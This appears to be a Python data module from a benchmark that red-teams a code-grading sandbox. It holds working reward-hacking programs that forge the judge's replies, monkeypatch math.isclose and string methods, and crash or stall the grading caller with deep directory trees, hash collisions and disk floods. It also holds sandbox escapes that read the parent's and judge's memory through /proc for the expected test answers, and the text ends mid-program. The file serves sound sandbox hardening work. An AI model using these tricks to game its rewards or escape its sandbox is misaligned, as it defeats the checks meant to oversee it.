"""The fourth pass (classes forged_reply, borrowed_names, int_tolerance, caller_break,
fallback_escape): replies forged to the judge from inside the serving process, names the tests
borrow from the program, an int compared as a float, programs that break the caller rather than
earn, and the audit-hook fallback's holes.

Data only, like the other modules. Some hacks bring tests of their own, in the style they aim at
(the honest solution passes them). The comment above each hack says what it did against the
sandbox before this pass (bench/reward_hacks.py with PYTHONPATH=<that tree>: cpu_s=1, wall_s=3,
memory_mb=128, Python 3.11.7 for the caller and the programs, run as root; "bwrap" and
"fallback" are the bench's columns). caller_break programs earn nothing: their comments give
what each did to the caller (run_python raised, its wall time, the caller's longest event-loop
stall, its peak RSS, what stayed in the temp dir). The fallback_escape programs pass only
without bubblewrap.
"""
from __future__ import annotations

from .hack import Hack, forms

# Opening a path outside the program's directory on the audit-hook fallback (class
# fallback_escape): a directory descriptor of the program's own directory, and a cwd
# 40 levels below it.
_OUTSIDE = (
    'import os\n'
    "_box = os.open('.', os.O_RDONLY)\n"
    "os.makedirs('x/' * 40)\n"
    "os.chdir('x/' * 40)\n"
    'def away(path):\n'
    "    # Relative to the cwd (40 levels down the program's directory) this stays inside\n"
    "    # it: what the audit hook checks. Relative to _box (the program's directory) it is\n"
    '    # `path`: what the kernel opens, since the "open" event does not carry dir_fd.\n'
    "    return '../' * 40 + path.lstrip('/')\n"
    'def outside(path, flags=os.O_RDONLY):\n'
    '    return os.open(away(path), flags, 0o644, dir_fd=_box)\n'
    'def read(path):\n'
    '    fd = outside(path)\n'
    '    try:\n'
    '        return os.read(fd, 1 << 22)\n'
    '    finally:\n'
    '        os.close(fd)\n'
)

_MAP_TESTS = {
    'assert': (
        'cases = [((1, 2), 3), ((-5, 5), 0), ((10, 32), 42)]\n'
        'assert all(map(lambda c: add(*c[0]) == c[1], cases))\n'
        'assert not any(map(lambda c: add(*c[0]) != c[1], cases))\n'
        'for got, want in zip(map(add, [1, -5, 10], [2, 5, 32]), [3, 0, 42]):\n'
        '    assert got == want\n'
    ),
}
_MATH_TESTS = {
    'assert': (
        'assert math.isclose(add(0.1, 0.2), 0.3)\n'
        'assert math.isclose(add(1.5, 2.25), 3.75, rel_tol=1e-9)\n'
        'assert math.isclose(add(-1e-3, 1e-3), 0.0, abs_tol=1e-12)\n'
    ),
    'call': [
        ('math.isclose(add(0.1, 0.2), 0.3)', True),
        ('math.isclose(add(1.5, 2.25), 3.75, rel_tol=1e-9)', True),
    ],
}
_STR_TESTS = {
    'assert': (
        "assert add('flex', 'marl').startswith('flex')\n"
        "assert add('flex', 'marl').endswith('marl')\n"
        "assert add('', 'abc').endswith('abc')\n"
    ),
    'call': [
        ("add('flex', 'marl').startswith('flex')", True),
        ("add('flex', 'marl').endswith('marl')", True),
    ],
}
_FLOAT_TESTS = {
    'assert': (
        'assert add(0.5, 0.5).is_integer()\n'
        'assert add(1.25, 0.75).is_integer()\n'
    ),
    'call': [
        ('add(0.5, 0.5).is_integer()', True),
        ('add(1.25, 0.75).is_integer()', True),
    ],
}

HACKS = [
    # The program shares its process with the loop that answers the judge (_bootstrap._Server): from
    # its top level, sys._getframe(1) is the bootstrap's main(), whose globals hold _Server. A
    # wrapped handle() turns every value reply into ["stop"], which the judge raises as
    # StopIteration: in map()/zip() that ends the loop, so all(map(...)) is True and a for over
    # zip() runs no assert. Before: 1.0 in both assert columns (so every forge_stop_* hack and
    # forge_conversation_ahead); the call form compares in the parent, where a stop is no value.
    Hack('forge_stop_handle', 'forged_reply', forms(
        assert_=(
            'import sys\n'
            "_Server = sys._getframe(1).f_globals['_Server']\n"
            '_handle = _Server.handle\n'
            'def handle(self, line):\n'
            '    reply = _handle(self, line)\n'
            '    return \'["stop"]\' if reply.startswith(\'["ok"\') else reply\n'
            '_Server.handle = handle\n'
            'del sys, _Server\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
    ), tests=_MAP_TESTS),
    # _Server found through object.__subclasses__() (no frame); its handle() answers every call
    # request with ["stop"] without running it.
    Hack('forge_stop_subclasses', 'forged_reply', forms(
        assert_=(
            'for c in object.__subclasses__():\n'
            "    if c.__name__ == '_Server' and hasattr(c, 'handle'):\n"
            '        def handle(self, line, real=c.handle):\n'
            '            if line.startswith((b\'["op","call"\', b\'["eval"\')):\n'
            '                return \'["stop"]\'\n'
            '            return real(self, line)\n'
            '        c.handle = handle\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
    ), tests=_MAP_TESTS),
    # The bootstrap writes its replies with os.write, looked up on the os module at each call: a
    # replaced os.write rewrites each value reply as ["stop"].
    Hack('forge_stop_os_write', 'forged_reply', forms(
        assert_=(
            'import os\n'
            '_write = os.write\n'
            'def write(fd, data):\n'
            '    if bytes(data[:5]) == b\'["ok"\':\n'
            '        _write(fd, b\'["stop"]\\n\')\n'
            '        return len(data)\n'
            '    return _write(fd, data)\n'
            'os.write = write\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
    ), tests=_MAP_TESTS),
    # Nothing patched ahead: add() itself, when called, finds the serving _Server in its caller's
    # frame (handle's `self`) and replaces that instance's answer() with one that says ["stop"].
    Hack('forge_stop_from_add', 'forged_reply', forms(
        assert_=(
            'import sys\n'
            'def add(a, b):\n'
            '    f = sys._getframe(1)\n'
            "    while f is not None and not hasattr(f.f_locals.get('self'), 'answer'):\n"
            '        f = f.f_back\n'
            '    if f is not None:\n'
            "        f.f_locals['self'].answer = lambda value, by_reference: '[\"stop\"]'\n"
            '    return 0\n'
        ),
    ), tests=_MAP_TESTS),
    # The bootstrap's globals found through gc (the dict that holds _write_all); its _write_all
    # replaced by one that sends ["stop"] for every value reply.
    Hack('forge_stop_write_all_gc', 'forged_reply', forms(
        assert_=(
            'import gc\n'
            "for g in [o for o in gc.get_objects() if type(o) is dict and '_write_all' in o]:\n"
            "    def stop_values(fd, data, real=g['_write_all']):\n"
            '        real(fd, b\'["stop"]\\n\' if data.startswith(b\'["ok"\') else data)\n'
            "    g['_write_all'] = stop_values\n"
            'del g\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
    ), tests=_MAP_TESTS),
    # Extra lines: on its first call add() writes 64 ["stop"] lines on the control pipe (ctl_fd,
    # from the serving frame). The parent relays one line per request, so this request and every
    # later one get a stop; the real replies queue up behind them, never read.
    Hack('forge_stop_extra_lines', 'forged_reply', forms(
        assert_=(
            'import os, sys\n'
            'def add(a, b):\n'
            '    f = sys._getframe(1)\n'
            "    while f is not None and 'ctl_fd' not in f.f_locals:\n"
            '        f = f.f_back\n'
            "    if f is not None and not getattr(add, 'ahead', False):\n"
            "        os.write(f.f_locals['ctl_fd'], b'[\"stop\"]\\n' * 64)\n"
            '        add.ahead = True\n'
            '    return 0\n'
        ),
    ), tests=_MAP_TESTS),
    # Replies to requests not yet made: from its top level (main()'s frame holds the nonce and
    # ctl_fd) the program writes the ready line, a names reply ("add" as reference 0) and 64 stops;
    # the parent takes them as the answers to the judge's requests, in order. The real server's
    # lines come after, never read.
    Hack('forge_conversation_ahead', 'forged_reply', forms(
        assert_=(
            'import os, sys\n'
            'f = sys._getframe()\n'
            "while f is not None and 'nonce' not in f.f_locals:\n"
            '    f = f.f_back\n'
            'if f is not None:\n'
            "    ready = b'R' + f.f_locals['nonce']\n"
            '    names = b\'["names",[["add",["ref",0,"function"]]]]\'\n'
            '    lines = [ready, names] + [b\'["stop"]\'] * 64\n'
            "    os.write(f.f_locals['ctl_fd'], b'\\n'.join(lines) + b'\\n')\n"
            'del f\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
    ), tests=_MAP_TESTS),
    # ["gone"] for every call: the judge raises ProgramGone, a BaseException that only a bare except
    # (or except BaseException) in the tests would swallow. Earns 0 on the old code.
    Hack('forge_gone', 'forged_reply', forms(
        assert_=(
            'import sys\n'
            "_Server = sys._getframe(1).f_globals['_Server']\n"
            '_handle = _Server.handle\n'
            '_Server.handle = lambda self, line: (\n'
            '    \'["gone"]\' if line.startswith(b\'["op","call"\') else _handle(self, line))\n'
            'del sys, _Server\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
    ), tests=_MAP_TESTS),
    # A reference where a value was due (["ref",0,"int"] for every call): the judge's Remote fails
    # closed when compared (unjudgeable). Earns 0 on the old code.
    Hack('forge_ref_for_value', 'forged_reply', forms(
        assert_=(
            'import sys\n'
            "_Server = sys._getframe(1).f_globals['_Server']\n"
            '_handle = _Server.handle\n'
            'REF = \'["ref",0,"int"]\'\n'
            '_Server.handle = lambda self, line: (\n'
            '    REF if line.startswith(b\'["op","call"\') else _handle(self, line))\n'
            'del sys, _Server\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
    ), tests=_MAP_TESTS),
    # MBPP-style tests call math.isclose without importing math: the judge's `math` is the
    # program's, a reference, so isclose runs in the program's process, where it was patched; call
    # cases evaluate their expression in the program. Before: 1.0 in the four assert and call
    # columns, for every borrow_* hack.
    Hack('borrow_math_patched', 'borrowed_names', forms(
        both=(
            'import math\n'
            'math.isclose = lambda *args, **kwargs: True\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
    ), tests=_MATH_TESTS),
    # `math` bound to a class of the program's with a static isclose that says True.
    Hack('borrow_math_class', 'borrowed_names', forms(
        both=(
            'class math:\n'
            '    @staticmethod\n'
            '    def isclose(a, b, **tolerances):\n'
            '        return True\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
    ), tests=_MATH_TESTS),
    # `math` bound to a module object whose every attribute is a function that says True (isclose,
    # isfinite, ...).
    Hack('borrow_math_anything', 'borrowed_names', forms(
        both=(
            'import sys\n'
            'class _Anything(type(sys)):\n'
            '    def __getattr__(self, name):\n'
            '        return lambda *args, **kwargs: True\n'
            "math = _Anything('math')\n"
            'del sys\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
    ), tests=_MATH_TESTS),
    # A str subclass is not a plain value: the judge gets a reference, and the tests' method calls
    # on it (startswith, endswith, with the expected text as the argument) run the program's
    # methods. Comparing an attribute (add(1, 2).real == 3) fails closed, and str(add(1, 2)) is a
    # plain str.
    Hack('borrow_str_methods', 'borrowed_names', forms(
        both=(
            'class S(str):\n'
            '    def startswith(self, *args):\n'
            '        return True\n'
            '    endswith = startswith\n'
            'def add(a, b):\n'
            '    return S()\n'
        ),
    ), tests=_STR_TESTS),
    # The same with a float subclass whose is_integer() says True.
    Hack('borrow_float_method', 'borrowed_names', forms(
        both=(
            'class F(float):\n'
            '    def is_integer(self):\n'
            '        return True\n'
            'def add(a, b):\n'
            '    return F()\n'
        ),
    ), tests=_FLOAT_TESTS),
    # Call cases compare an int expected value with a float result within rel_tol 1e-9 (cases.same):
    # a float off by 5e-10 of the sum, the wrong type and value, passes every case. Before: 1.0 in
    # both call columns.
    Hack('tol_relative_error', 'int_tolerance', forms(
        call=(
            'def add(a, b):\n'
            '    return (a + b) * (1 + 5e-10)\n'
        ),
    )),
    # A huge int where a float is expected: cases.same() calls float() on it in the parent, and the
    # OverflowError escapes run_python/code_reward (the caller's reward loop raises). Before: RAISED
    # in both call columns.
    Hack('tol_huge_int_for_float', 'int_tolerance', forms(
        call=(
            'def add(a, b):\n'
            '    return 10 ** 400\n'
        ),
    ), tests={
        'call': [
            ('add(0.5, 0.25)', 0.75),
            ('add(-1.5, 1.5)', 0.0),
        ],
    }),
    # A float where a huge int is expected (tests on big numbers): float(expected) overflows in the
    # parent, the same OverflowError out of run_python. Before: RAISED in both call columns.
    Hack('tol_float_for_huge_int', 'int_tolerance', forms(
        call=(
            'def add(a, b):\n'
            '    return 0.5\n'
        ),
    ), tests={'call': [('add(10 ** 400, 1)', 10 ** 400 + 1), ('add(1, 2)', 3)]}),
    # 5000 nested directories, made through descriptors (mkdir and open with dir_fd: no path grows
    # long). The parent's cleanup (TemporaryDirectory -> shutil.rmtree, recursive on Python 3.11)
    # raises RecursionError out of run_python and leaves the tree (5001 entries, 20 MB) in the temp
    # dir. Before: RAISED in all six bench columns, six trees left per bench run, run_python
    # 0.4-0.85 s. One second of CPU makes about 30000 levels (117 MB).
    # A caller that gathers rewards cancels the other runs when one raises; on Python 3.11 a run
    # cancelled while asyncio starts its process can wait forever (cpython gh-103847, gh-133536):
    # the bench of the time (asyncio.gather, asyncio.run) hung 10 minutes until killed.
    Hack('break_deep_tree', 'caller_break', forms(
        both=(
            'import os\n'
            "fd = os.open('.', os.O_RDONLY)\n"
            'for _ in range(5000):\n'
            "    os.mkdir('d', dir_fd=fd)\n"
            "    sub = os.open('d', os.O_RDONLY, dir_fd=fd)\n"
            '    os.close(fd)\n'
            '    fd = sub\n'
            'os.close(fd)\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
        io=(
            'import os\n'
            "fd = os.open('.', os.O_RDONLY)\n"
            'for _ in range(5000):\n'
            "    os.mkdir('d', dir_fd=fd)\n"
            "    sub = os.open('d', os.O_RDONLY, dir_fd=fd)\n"
            '    os.close(fd)\n'
            '    fd = sub\n'
            'os.close(fd)\n'
            'input()\n'
            'print(0)\n'
        ),
    )),
    # 1500 levels, then four files of 16 MiB (the file-size limit) at the bottom, where the failed
    # cleanup never gets: before, RecursionError out of run_python in every form and 70 MB (1505
    # entries) left in the temp dir per run, 420 MB per bench run.
    Hack('break_deep_tree_files', 'caller_break', forms(
        both=(
            'import os\n'
            "fd = os.open('.', os.O_RDONLY)\n"
            'for _ in range(1500):\n'
            "    os.mkdir('d', dir_fd=fd)\n"
            "    sub = os.open('d', os.O_RDONLY, dir_fd=fd)\n"
            '    os.close(fd)\n'
            '    fd = sub\n'
            "block = b'x' * (16 << 20)\n"
            'for i in range(4):\n'
            "    f = os.open('f%d' % i, os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)\n"
            '    os.write(f, block)\n'
            '    os.close(f)\n'
            'os.close(fd)\n'
            'del block\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
        io=(
            'import os\n'
            "fd = os.open('.', os.O_RDONLY)\n"
            'for _ in range(1500):\n'
            "    os.mkdir('d', dir_fd=fd)\n"
            "    sub = os.open('d', os.O_RDONLY, dir_fd=fd)\n"
            '    os.close(fd)\n'
            '    fd = sub\n'
            "block = b'x' * (16 << 20)\n"
            'for i in range(4):\n'
            "    f = os.open('f%d' % i, os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)\n"
            '    os.write(f, block)\n'
            '    os.close(f)\n'
            'os.close(fd)\n'
            'del block\n'
            'input()\n'
            'print(0)\n'
        ),
    )),
    # A set of 9000 ints that all hash to 0 (i * (2**61 - 1)): 0.53 s of the program's CPU to build,
    # and the same quadratic work for the parent to decode each reply (0.2 MB), after the program's
    # wall clock, on the caller's event loop. Before: run_python 2.2 s (honest: 0.07 s), the
    # caller's loop stalled 1.6 s (the three replies decoded in one go).
    Hack('break_colliding_set', 'caller_break', forms(
        call=(
            'M = 2 ** 61 - 1  # CPython hashes ints modulo M: every i * M hashes to 0\n'
            'S = {i * M for i in range(9000)}  # quadratic to build here, and again in the parent\n'
            'def add(a, b):\n'
            '    return S\n'
        ),
    )),
    # The reply line written by the program, not encoded: a replaced _write_all sends a 0.5 MB dict
    # of 20000 colliding keys for each call. Before: run_python 7.6-8.8 s, the caller's loop stalled
    # 7.6-8.6 s. Quadratic: at the 64 MiB line limit (2.7 million keys) a reply would take hours.
    Hack('break_colliding_dict_forged', 'caller_break', forms(
        call=(
            'import sys\n'
            'M = 2 ** 61 - 1\n'
            "items = ','.join('[%d,0]' % (i * M) for i in range(20000))  # 0.5 MB\n"
            'REPLY = (\'["ok",{"d":[\' + items + \']}]\\n\').encode()\n'
            "g = sys._getframe(1).f_globals  # the bootstrap's\n"
            "write_all = g['_write_all']\n"
            'def forged(fd, data):\n'
            '    write_all(fd, REPLY if data.startswith(b\'["ok"\') else data)\n'
            "g['_write_all'] = forged\n"
            'del g\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
    )),
    # Each call answered with a 16 MiB line of 5.6 million empty lists, decoded by the parent.
    # Before: run_python 8.1-8.7 s, the caller's loop stalled 7.9-8.5 s, its peak RSS 705 MB (224 MB
    # otherwise). A 63 MiB line (the limit is 64 MiB) decodes in 9.1 s to 1.9 GB, per call case.
    Hack('break_huge_replies', 'caller_break', forms(
        call=(
            'import sys\n'
            '# 16 MiB: 5.6 million empty lists\n'
            "REPLY = b'[\"ok\",[' + b'[],' * ((16 << 20) // 3) + b'[]]]\\n'\n"
            'g = sys._getframe(1).f_globals\n'
            "write_all = g['_write_all']\n"
            'def forged(fd, data):\n'
            '    write_all(fd, REPLY if data.startswith(b\'["ok"\') else data)\n'
            "g['_write_all'] = forged\n"
            'del g\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
    )),
    # 128 MiB in eight files of 16 MiB (the per-file limit; nothing bounds the total), removed after
    # the run: before, run_python 0.1-0.2 s, the loop stalled 34-62 ms, nothing left. The temp dir
    # holds 128 MiB per run meanwhile; writing took about 0.1 s of CPU, so one second of CPU writes
    # about 1 GB.
    Hack('break_disk_flood', 'caller_break', forms(
        both=(
            "block = b'x' * (16 << 20)\n"
            'for i in range(8):\n'
            "    with open('f%d' % i, 'wb') as f:\n"
            '        f.write(block)\n'
            'del block\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
        io=(
            "block = b'x' * (16 << 20)\n"
            'for i in range(8):\n'
            "    with open('f%d' % i, 'wb') as f:\n"
            '        f.write(block)\n'
            'del block\n'
            'input()\n'
            'print(0)\n'
        ),
    )),
    # About 35000 empty files in 0.7 s of CPU, each removed by the parent on its event loop: before,
    # run_python 1.1 s, the loop stalled about 290 ms (call form); more with a larger cpu_s.
    Hack('break_many_files', 'caller_break', forms(
        both=(
            'import os, time\n'
            'n, stop = 0, time.process_time() + 0.7\n'
            'while time.process_time() < stop:\n'
            '    for _ in range(1000):\n'
            "        os.close(os.open('f%d' % n, os.O_WRONLY | os.O_CREAT, 0o644))\n"
            '        n += 1\n'
            'def add(a, b):\n'
            '    return 0\n'
        ),
        io=(
            'import os, time\n'
            'n, stop = 0, time.process_time() + 0.7\n'
            'while time.process_time() < stop:\n'
            '    for _ in range(1000):\n'
            "        os.close(os.open('f%d' % n, os.O_WRONLY | os.O_CREAT, 0o644))\n"
            '        n += 1\n'
            'input()\n'
            'print(0)\n'
        ),
    )),
    # The dir_fd hole (_OUTSIDE): /proc/<parent>/maps and mem opened from the program's directory,
    # the parent's writable memory scanned for "add(a, b) == c" (the tests' text it holds). The hook
    # refuses other processes' /proc paths and descriptors of outside directories, but checks a
    # relative path against the cwd, and the "open" event carries no dir_fd. Before: 1.0 in the
    # three fallback columns (0.25-0.35 s), 0.0 under bwrap (no /proc there).
    Hack('escape_dirfd_parent_memory', 'fallback_escape', forms(
        both=_OUTSIDE + (
            'import re\n'
            "blob = ''\n"
            'try:\n'
            '    pid = os.getppid()\n'
            "    mem = outside('/proc/%d/mem' % pid)\n"
            "    for line in read('/proc/%d/maps' % pid).decode().splitlines():\n"
            '        span, perms = line.split()[:2]\n'
            "        lo, hi = (int(x, 16) for x in span.split('-'))\n"
            "        if perms[:2] != 'rw' or hi - lo >= 1 << 28:\n"
            '            continue\n'
            '        for at in range(lo, hi, 1 << 20):\n'
            '            try:\n'
            '                chunk = os.pread(mem, min(1 << 20, hi - at), at)\n'
            '            except OSError:\n'
            '                break\n'
            "            hits = re.findall(rb'add\\(-?\\d+, -?\\d+\\) == -?\\d+', chunk)\n"
            "            blob += b' '.join(hits).decode('latin-1') + ' '\n"
            'except (OSError, ValueError):\n'
            '    pass\n'
            'import re\n'
            'T = {(int(x), int(y)): int(z) for x, y, z in\n'
            "     re.findall(r'add\\((-?\\d+), (-?\\d+)\\) == (-?\\d+)', blob)}\n"
            'def add(a, b):\n'
            '    return T.get((a, b), 0)\n'
        ),
        io=_OUTSIDE + (
            'import re\n'
            "blob = ''\n"
            'try:\n'
            '    pid = os.getppid()\n'
            "    mem = outside('/proc/%d/mem' % pid)\n"
            "    for line in read('/proc/%d/maps' % pid).decode().splitlines():\n"
            '        span, perms = line.split()[:2]\n'
            "        lo, hi = (int(x, 16) for x in span.split('-'))\n"
            "        if perms[:2] != 'rw' or hi - lo >= 1 << 28:\n"
            '            continue\n'
            '        for at in range(lo, hi, 1 << 20):\n'
            '            try:\n'
            '                chunk = os.pread(mem, min(1 << 20, hi - at), at)\n'
            '            except OSError:\n'
            '                break\n'
            "            hits = re.findall(rb'add\\(-?\\d+, -?\\d+\\) == -?\\d+', chunk)\n"
            "            blob += b' '.join(hits).decode('latin-1') + ' '\n"
            'except (OSError, ValueError):\n'
            '    pass\n'
            'import re\n'
            'T = {(int(x), int(y)): int(z) for x, y, z in\n'
            "     re.findall(r'add\\((-?\\d+), (-?\\d+)\\) == (-?\\d+)', blob)}\n"
            'a, b = map(int, input().split())\n'
            'print(T.get((a, b), 0))\n'
        ),
    )),
    # The judge (the parent's other child, role "judge") holds the tests' text once it has read
    # them: found through /proc, its memory read through the same hole. Before: 1.0 in fallback
    # assert (0.12 s).
    Hack('escape_dirfd_judge_memory', 'fallback_escape', forms(
        assert_=_OUTSIDE + (
            'import re, time\n'
            'def judge():\n'
            '    # The parent\'s other child, started with the role "judge"\n'
            "    for pid in os.listdir('/proc'):\n"
            '        try:\n'
            "            stat = read('/proc/%s/stat' % pid).rsplit(b') ', 1)[1].split()\n"
            '            if int(stat[1]) == os.getppid() and \\\n'
            "                    b'\\0judge\\0' in read('/proc/%s/cmdline' % pid):\n"
            '                return pid\n'
            '        except (OSError, IndexError, ValueError):\n'
            '            pass\n'
            'def scan(pid):\n'
            "    mem, text = outside('/proc/%s/mem' % pid), b''\n"
            "    for line in read('/proc/%s/maps' % pid).decode().splitlines():\n"
            '        span, perms = line.split()[:2]\n'
            "        lo, hi = (int(x, 16) for x in span.split('-'))\n"
            "        if perms[:2] == 'rw' and hi - lo < 1 << 26:\n"
            '            try:\n'
            '                chunk = os.pread(mem, hi - lo, lo)\n'
            "                hits = re.findall(rb'add\\(-?\\d+, -?\\d+\\) == -?\\d+', chunk)\n"
            "                text += b' '.join(hits) + b' '\n"
            '            except OSError:\n'
            '                pass\n'
            '    os.close(mem)\n'
            "    return text.decode('latin-1')\n"
            "blob, start = '', time.monotonic()\n"
            'while not blob.strip() and time.monotonic() - start < 1.5:\n'
            '    try:\n'
            '        pid = judge()\n'
            "        blob = scan(pid) if pid else ''\n"
            '    except OSError:\n'
            '        pass\n'
            '    time.sleep(0.01)\n'
            'import re\n'
            'T = {(int(x), int(y)): int(z) for x, y, z in\n'
            "     re.findall(r'add\\((-?\\d+), (-?\\d+)\\) == (-?\\d+)', blob)}\n"
            'def add(a, b):\n'
            '    return T.get((a, b), 0)\n'
        ),
    )),
    # The parent's command line read through the hole (its script, or pytest's tests/test_reward*.py
    # from its cwd: os.readlink has no audit event), then that file, which the fallback lets any
    # program read, for "add(a, b) == c". Before: 1.0 in the three fallback columns.
    Hack('escape_dirfd_parent_cmdline', 'fallback_escape', forms(
        both=_OUTSIDE + (
            'import glob\n'
            "blob = ''\n"
            'try:\n'
            '    pid = os.getppid()\n'
            "    cwd = os.readlink('/proc/%d/cwd' % pid)  # os.readlink: no audit event\n"
            "    args = read('/proc/%d/cmdline' % pid).decode().split('\\0')\n"
            "    found = glob.glob(cwd + '/tests/test_reward*.py')\n"
            "    for p in [a for a in args if a.endswith('.py')] + found:\n"
            "        blob += read(os.path.join(cwd, p)).decode('utf-8', 'replace')\n"
            'except (OSError, ValueError):\n'
            '    pass\n'
            'import re\n'
            'T = {(int(x), int(y)): int(z) for x, y, z in\n'
            "     re.findall(r'add\\((-?\\d+), (-?\\d+)\\) == (-?\\d+)', blob)}\n"
            'def add(a, b):\n'
            '    return T.get((a, b), 0)\n'
        ),
        io=_OUTSIDE + (
            'import glob\n'
            "blob = ''\n"
            'try:\n'
            '    pid = os.getppid()\n'
            "    cwd = os.readlink('/proc/%d/cwd' % pid)  # os.readlink: no audit event\n"
            "    args = read('/proc/%d/cmdline' % pid).decode().split('\\0')\n"
            "    found = glob.glob(cwd + '/tests/test_reward*.py')\n"
            "    for p in [a for a in args if a.endswith('.py')] + found:\n"
            "        blob += read(os.path.join(cwd, p)).decode('utf-8', 'replace')\n"
            'except (OSError, ValueError):\n'
            '    pass\n'
            'import re\n'
            'T = {(int(x), int(y)): int(z) for x, y, z in\n'
            "     re.findall(r'add\\((-?\\d+), (-?\\d+)\\) == (-?\\d+)', blob)}\n"
            'a, b = map(int, input().split())\n'
            'print(T.get((a, b), 0))\n'
        ),
    )),
    # Writes and signals the hook does not see, each printed yes or no (the program earns 0).
    # Before, on the fallback (as root): every one yes. readline.write_history_file, os.mkfifo,
    # os.mknod (no audit event) and sqlite3.connect (an event the hook ignores) outside the
    # program's directory; os.open with dir_fd outside; a character device (1:3) in the box (as root
    # any device, a disk included); pidfd_send_signal(parent, 0); F_SETOWN with F_SETSIG (the parent
    # did receive the SIGWINCH: checked with a handler; any signal can be chosen); setpriority and
    # sched_setaffinity on the parent (set to their own values). Under bwrap the writes fail and the
    # signals and scheduling calls reach only the sandbox's pid 1 (bwrap's init).
    Hack('escape_unseen_writes_signals', 'fallback_escape', forms(
        both=_OUTSIDE + (
            'import signal, stat\n'
            '# Each tried once; what succeeded is printed, and what was written outside removed\n'
            '# again (through the dir_fd hole above).\n'
            "tag = '/tmp/flexmarl-hack-probe-%d' % os.getpid()\n"
            "pp, done = os.getppid(), ['parent %d' % os.getppid()]\n"
            'def probe(name, fn, undo=None):\n'
            '    try:\n'
            '        fn()\n'
            "        done.append(name + ': yes')\n"
            '    except Exception as exc:\n'
            "        done.append('%s: no (%s)' % (name, type(exc).__name__))\n"
            '    if undo is not None and os.path.lexists(undo):\n'
            '        try:\n'
            '            os.unlink(away(undo), dir_fd=_box)\n'
            '        except OSError as exc:\n'
            "            done.append('left %s: %s' % (undo, exc))\n"
            'def history():\n'
            '    import readline\n'
            "    readline.write_history_file(tag + '.history')\n"
            'def sqlite():\n'
            '    import sqlite3\n'
            "    sqlite3.connect(tag + '.db').execute('create table t (x)')\n"
            'def pidfd():\n'
            '    signal.pidfd_send_signal(os.pidfd_open(pp), 0)\n'
            'def sigio():\n'
            '    import fcntl\n'
            '    r, w = os.pipe()\n'
            '    fcntl.fcntl(r, fcntl.F_SETOWN, pp)\n'
            '    fcntl.fcntl(r, 10, signal.SIGWINCH)  # F_SETSIG: SIGWINCH, ignored by default\n'
            '    if fcntl.fcntl(r, 11) != signal.SIGWINCH:  # F_GETSIG: never the default SIGIO\n'
            "        raise OSError('F_SETSIG')\n"
            '    fcntl.fcntl(r, fcntl.F_SETFL, fcntl.fcntl(r, fcntl.F_GETFL) | os.O_ASYNC)\n'
            "    os.write(w, b'x')\n"
            '    os.close(w)\n'
            '    os.close(r)\n'
            'def renice():\n'
            '    os.setpriority(os.PRIO_PROCESS, pp, os.getpriority(os.PRIO_PROCESS, pp))\n'
            'def affinity():\n'
            '    os.sched_setaffinity(pp, os.sched_getaffinity(pp))\n'
            'def device():\n'
            '    # a /dev/null, in the box\n'
            "    os.mknod('null', stat.S_IFCHR | 0o600, os.makedev(1, 3))\n"
            "probe('readline.write_history_file outside', history, tag + '.history')\n"
            "probe('os.mkfifo outside', lambda: os.mkfifo(tag + '.fifo'), tag + '.fifo')\n"
            "probe('os.mknod outside', lambda: os.mknod(tag + '.node'), tag + '.node')\n"
            "probe('sqlite3.connect outside', sqlite, tag + '.db')\n"
            'def dirfd():\n'
            "    os.close(outside(tag + '.dirfd', os.O_WRONLY | os.O_CREAT))\n"
            "probe('os.open(dir_fd) outside', dirfd, tag + '.dirfd')\n"
            "probe('mknod char device 1:3', device)\n"
            "probe('pidfd_send_signal(parent, 0)', pidfd)\n"
            "probe('F_SETOWN/F_SETSIG: SIGWINCH to the parent', sigio)\n"
            "probe('setpriority(parent, unchanged)', renice)\n"
            "probe('sched_setaffinity(parent, unchanged)', affinity)\n"
            "print('; '.join(done))\n"
            'def add(a, b):\n'
            '    return 0\n'
        ),
        io=_OUTSIDE + (
            'import signal, stat\n'
            '# Each tried once; what succeeded is printed, and what was written outside removed\n'
            '# again (through the dir_fd hole above).\n'
            "tag = '/tmp/flexmarl-hack-probe-%d' % os.getpid()\n"
            "pp, done = os.getppid(), ['parent %d' % os.getppid()]\n"
            'def probe(name, fn, undo=None):\n'
            '    try:\n'
            '        fn()\n'
            "        done.append(name + ': yes')\n"
            '    except Exception as exc:\n'
            "        done.append('%s: no (%s)' % (name, type(exc).__name__))\n"
            '    if undo is not None and os.path.lexists(undo):\n'
            '        try:\n'
            '            os.unlink(away(undo), dir_fd=_box)\n'
            '        except OSError as exc:\n'
            "            done.append('left %s: %s' % (undo, exc))\n"
            'def history():\n'
            '    import readline\n'
            "    readline.write_history_file(tag + '.history')\n"
            'def sqlite():\n'
            '    import sqlite3\n'
            "    sqlite3.connect(tag + '.db').execute('create table t (x)')\n"
            'def pidfd():\n'
            '    signal.pidfd_send_signal(os.pidfd_open(pp), 0)\n'
            'def sigio():\n'
            '    import fcntl\n'
            '    r, w = os.pipe()\n'
            '    fcntl.fcntl(r, fcntl.F_SETOWN, pp)\n'
            '    fcntl.fcntl(r, 10, signal.SIGWINCH)  # F_SETSIG: SIGWINCH, ignored by default\n'
            '    if fcntl.fcntl(r, 11) != signal.SIGWINCH:  # F_GETSIG: never the default SIGIO\n'
            "        raise OSError('F_SETSIG')\n"
            '    fcntl.fcntl(r, fcntl.F_SETFL, fcntl.fcntl(r, fcntl.F_GETFL) | os.O_ASYNC)\n'
            "    os.write(w, b'x')\n"
            '    os.close(w)\n'
            '    os.close(r)\n'
            'def renice():\n'
            '    os.setpriority(os.PRIO_PROCESS, pp, os.getpriority(os.PRIO_PROCESS, pp))\n'
            'def affinity():\n'
            '    os.sched_setaffinity(pp, os.sched_getaffinity(pp))\n'
            'def device():\n'
